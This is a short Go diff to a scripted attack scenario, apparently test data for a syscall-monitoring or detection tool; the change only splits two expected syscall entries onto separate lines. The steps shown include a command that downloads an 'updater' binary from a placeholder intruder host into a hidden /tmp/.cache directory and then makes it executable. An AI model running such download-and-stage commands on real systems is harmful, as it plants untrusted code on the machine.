@@ -70,7 +70,8 @@ var story = []step{
 		{"openat", "/etc/apt/sources.list.d/updates.list", writes},
 	}},
 	{"tool", 3000 * time.Millisecond, "mkdir -p /tmp/.cache && curl -fsS -o /tmp/.cache/updater http://{intruder}:{file-port}/updater", []deed{
-		{"execve", "/usr/bin/curl", anyMode}, {"connect", "{intruder}:{file-port}", anyMode},
+		{"execve", "/usr/bin/curl", anyMode},
+		{"connect", "{intruder}:{file-port}", anyMode},
 		{"openat", "/tmp/.cache/updater", writes},
 	}},
 	{"tool", 1500 * time.Millisecond, "chmod +x /tmp/.cache/updater", []deed{{"fchmodat", "/tmp/.cache/updater", anyMode}}},
